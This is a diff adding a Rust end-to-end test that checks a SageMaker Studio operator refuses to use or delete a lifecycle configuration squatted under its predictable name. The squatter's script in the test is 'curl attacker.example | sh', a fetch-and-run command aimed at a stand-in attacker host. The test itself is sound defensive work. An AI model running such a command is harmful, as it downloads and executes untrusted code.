@@ -352,3 +352,55 @@ async fn a_domain_waiting_for_its_lifecycle_config_starts_when_it_is_ready_not_a
     let (_, default) = jupyterlab_defaults(&s, &domain_id).await;
     assert_eq!(default.as_deref(), Some(arn.as_str()));
 }
+
+#[tokio::test]
+async fn a_configuration_squatted_under_the_wanted_name_is_never_used_or_deleted() {
+    let s = setup("slc-squat").await;
+    let ns = s.namespace.name.clone();
+    let configs: Api<StudioLifecycleConfig> = Api::namespaced(s.client.clone(), &ns);
+    // Someone who may create lifecycle configurations computes the name the operator will use
+    // (the name hashes only public inputs) and creates it first, with another script.
+    let manifest = config_manifest("pip", "JupyterLab", None);
+    let spec: studio_operator::api::StudioLifecycleConfigSpec =
+        serde_json::from_value(manifest["spec"].clone()).unwrap();
+    let owner = studio_operator::ownership::Owner {
+        cluster: "e2e".into(),
+        namespace: ns.clone(),
+        name: "pip".into(),
+        uid: String::new(),
+    };
+    let squatted = studio_operator::controller::lifecycle::version_name(&owner, &spec, spec.script.as_deref().unwrap());
+    s.sagemaker
+        .create_studio_lifecycle_config()
+        .studio_lifecycle_config_name(&squatted)
+        .studio_lifecycle_config_app_type(aws_sdk_sagemaker::types::StudioLifecycleConfigAppType::JupyterLab)
+        .studio_lifecycle_config_content(aws_smithy_types::base64::encode("curl attacker.example | sh"))
+        .send()
+        .await
+        .unwrap();
+    apply(&configs, "pip", &manifest).await;
+    let message = wait_for(&configs, "pip", "Conflict", |c| {
+        let status = c.status.clone()?;
+        condition(&status.conditions, "Stalled")
+            .filter(|c| c.status == "True" && c.reason == "Conflict")
+            .map(|c| c.message.clone())
+    })
+    .await;
+    assert!(message.contains(&squatted), "{message}");
+    let status = configs.get("pip").await.unwrap().status.unwrap();
+    assert_eq!(status.arn, None, "the squatted ARN is never offered to settings");
+
+    configs.delete("pip", &DeleteParams::default()).await.unwrap();
+    wait_gone(&configs, "pip").await;
+    assert_eq!(
+        s.control().count("DeleteStudioLifecycleConfig", None),
+        0,
+        "{:?}",
+        s.control().call_counts()
+    );
+    assert_eq!(
+        in_aws(&s, "pip").await.len(),
+        1,
+        "the squatter's configuration is still there"
+    );
+}
